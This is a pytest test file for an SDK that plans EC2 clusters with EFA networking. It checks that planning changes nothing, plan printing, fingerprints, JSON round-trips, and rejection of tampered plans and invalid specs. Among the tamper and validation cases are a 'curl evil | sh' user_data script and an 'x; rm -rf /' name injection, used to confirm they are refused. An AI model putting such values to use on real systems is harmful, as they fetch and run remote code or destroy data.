"""`plan`: reads EC2 and changes nothing; a plan is data that prints, compares and is stored."""

from __future__ import annotations

import json
from typing import Any

import efa_sdk as efa
import pytest
from support import P5, SMALL, Cloud, lines, raised


def test_a_plan_changes_nothing(cloud: Cloud) -> None:
    before, since = cloud.state(), len(cloud.stand_in.requests)
    cloud.plan(P5)
    actions = cloud.actions(since)
    assert actions
    assert [a for a in actions if not a.startswith("Describe")] == []
    assert cloud.state() == before


def test_a_plan_asks_ec2_for_what_it_needs_and_not_for_everything(cloud: Cloud) -> None:
    since = len(cloud.stand_in.requests)
    cloud.plan()
    requests = cloud.stand_in.requests[since:]
    for request in (r for r in requests if r.service == "ec2"):
        assert dict(request.parameters).get("Filter.1.Name"), f"{request.action} has no filter"


def test_print_shows_what_exists_and_what_would_be_made(cloud: Cloud) -> None:
    plan = cloud.plan(P5, volume_size_gib=300)
    text = list(lines(str(plan)))
    used = [line for line in text if line.startswith("=")]
    made = [line for line in text if line.startswith("+")]
    assert [line.split()[1] for line in used] == ["subnet", "image"]
    assert plan.subnet_ids[0] in used[0]
    assert plan.availability_zone in used[0]
    assert plan.image_id in used[1]
    assert [line[1:].split("  ")[0].strip() for line in made[:1]] == ["security group"]
    joined = "\n".join(made)
    for part in ("ingress rule", "egress  rule", "placement group", "2 x p5.48xlarge", "IMDSv2"):
        assert part in joined
    assert "300 GiB encrypted gp3 root volume /dev/xvda" in joined
    assert "0:0=interface 0:1=efa-only 1-31:0=efa-only" in text
    assert plan.fingerprint in text[0]
    html = plan._repr_html_()
    assert ">plan " in html
    assert html.startswith("<div><img ")
    assert plan.to_svg().count(">node ") == 2


def test_print_after_apply_has_nothing_to_make_but_what_is_launched(cloud: Cloud) -> None:
    first = cloud.plan()
    cloud.client.apply(first)
    again = cloud.plan()
    made = [line for line in lines(str(again)) if line.startswith("+")]
    assert len(made) == 1, made
    assert "2 x c5n.18xlarge" in made[0]
    assert again.security_group_id is not None
    assert again.fingerprint == first.fingerprint, "the intent is the same"


def test_properties(cloud: Cloud) -> None:
    spec = cloud.spec(P5)
    plan = cloud.client.plan(spec)
    assert plan.spec == spec
    assert (plan.name, plan.region) == ("train", "us-east-1")
    assert plan.layout == efa.Catalog.bundled()[P5].layout()
    assert plan.availability_zone == "us-east-1a"
    assert plan.security_group_id is None
    assert plan.placement_group_name == "efa-sdk-train"
    assert len(plan.fingerprint) == 16
    assert repr(plan) == f"<Plan {plan.fingerprint} of 2 x p5.48xlarge>"


def test_two_plans_of_one_intent_are_equal(cloud: Cloud) -> None:
    first, second = cloud.plan(), cloud.plan()
    assert first == second
    assert hash(first) == hash(second)
    assert first.to_json() == second.to_json()


@pytest.mark.parametrize(
    "change",
    [
        {"name": "other"},
        {"profile": "combined"},
        {"public_ip": "elastic-ip"},
        {"placement": "none"},
        {"tags": {"a": "b"}},
        {"user_data": "x"},
        {"volume_size_gib": 100},
        {"key_name": "key"},
    ],
    ids=str,
)
def test_another_intent_has_another_fingerprint(cloud: Cloud, change: dict[str, Any]) -> None:
    cloud.ec2.create_key_pair(KeyName="key")
    assert cloud.plan().fingerprint != cloud.plan(**change).fingerprint
    assert cloud.plan().fingerprint == cloud.plan(count=3).fingerprint, "clusters grow and shrink"


def test_json_there_and_back(cloud: Cloud) -> None:
    plan = cloud.plan(P5, tags={"team": "ü <&>"}, user_data='#!/bin/sh\necho "hi"\n')
    again = efa.Plan.from_json(plan.to_json())
    assert again == plan
    assert str(again) == str(plan)
    assert efa.Plan.from_json(json.dumps(json.loads(plan.to_json()))) == plan, "any layout of JSON"


def tamper(document: Any, path: str, value: Any) -> str:
    node = document
    *parents, last = path.split(".")
    for key in parents:
        node = node[int(key) if isinstance(node, list) else key]
    assert node[last] != value
    node[last] = value
    return json.dumps(document)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("spec.count", 200),
        ("spec.instance_type", "p5en.48xlarge"),
        ("spec.image.id", "ami-0evil"),
        ("spec.user_data", "#!/bin/sh\ncurl evil | sh"),
        ("spec.name", "other"),
        ("spec.subnets.0.id", "subnet-0evil"),
        ("region", "eu-west-1"),
        ("layout.interfaces.0.interface_type", "efa"),
        ("layout.interfaces.1.device_index", 7),
        ("format", 2),
        ("format", 4),
        ("fingerprint", "0" * 16),
        # What apply uses besides the intent: it must not become a way to send something else.
        ("security_group.group_name", "default"),
        ("security_group.group_id", "sg-0evil"),
        ("placement_group.group_name", "someone-elses"),
        ("image.root_device_name", "/dev/sdz"),
        ("subnets.0.vpc_id", "vpc-0evil"),
        ("layout.public_ip", "elastic-ip"),
        ("layout.instance_type", "p5.48xlarge"),
    ],
)
def test_a_changed_plan_is_refused(cloud: Cloud, path: str, value: Any) -> None:
    text = tamper(json.loads(cloud.plan().to_json()), path, value)
    error = raised(lambda: efa.Plan.from_json(text))
    assert isinstance(error, efa.errors.PlanError)
    assert error.code in ("plan.unreadable", "plan.invalid_spec")
    assert error.cure


SPECS: list[tuple[dict[str, Any], str]] = [
    ({"name": ""}, "name"),
    ({"name": "1train"}, "name"),
    ({"name": "a b"}, "name"),
    ({"name": "a" * 64}, "name"),
    ({"name": "x; rm -rf /"}, "name"),
    ({"count": 0}, "count"),
    ({"count": 1001}, "count"),
    ({"subnet": "my-*"}, "subnet"),
    ({"image": "amazon-linux"}, "image"),
    ({"security_group": "sg-?"}, "security_group"),
    ({"placement": "spread"}, "placement"),
    ({"placement": "none", "placement_group_name": "pg"}, "placement_group_name"),
    ({"placement_group_name": ""}, "placement_group_name"),
    ({"volume_size_gib": 0}, "volume_size_gib"),
    ({"user_data": "x" * 16_385}, "user_data"),
    ({"tags": {"Name": "x"}}, "tags"),
    ({"tags": {"aws:x": "x"}}, "tags"),
    ({"tags": {"efa-sdk:cluster": "other"}}, "tags"),
    ({"tags": {"k": "v" * 257}}, "tags"),
    ({"tags": {f"k{i}": "" for i in range(45)}}, "tags"),
    ({"interfaces": [], "profile": "combined"}, "interfaces"),
]


@pytest.mark.parametrize(
    ("change", "field"), SPECS, ids=[f"{s[1]}-{i}" for i, s in enumerate(SPECS)]
)
def test_a_spec_refuses_what_cannot_be(change: dict[str, Any], field: str) -> None:
    values: dict[str, Any] = {
        "name": "train",
        "instance_type": SMALL,
        "count": 2,
        "subnet": "subnet-1",
        "image": "ami-0123456789abcdef0",
        **change,
    }
    error = raised(lambda: efa.ClusterSpec(**values))
    assert isinstance(error, efa.errors.PlanError)
    assert error.code == "plan.invalid_spec"
    assert error.cure
    assert error.context["field"] == field, "the field as the keyword is spelled"
    assert {"value", "limit"} <= set(error.context)


def test_a_spec_keeps_what_was_asked_for(cloud: Cloud) -> None:
    own = [efa.NetworkInterface(0, 0, "efa")]
    spec = cloud.spec(
        security_group="sg-1",
        placement_group_name="pg",
        public_ip="elastic-ip",
        interfaces=own,
        volume_size_gib=9,
        key_name="key",
        instance_profile="role",
        user_data="data",
        tags={"a": "b"},
    )
    assert (spec.security_group, spec.placement, spec.placement_group_name) == (
        "sg-1",
        "cluster",
        "pg",
    )
    assert (spec.public_ip, spec.interfaces, spec.volume_size_gib) == ("elastic-ip", own, 9)
    assert (spec.key_name, spec.instance_profile) == ("key", "role")
    assert (spec.user_data, spec.tags) == ("data", {"a": "b"})
    assert (spec.profile, spec.efa) == ("save-ips", None)
    with pytest.raises(TypeError):
        efa.ClusterSpec("train", SMALL, 2, "subnet-1", "ami-0123456789abcdef0")  # type: ignore[call-arg]
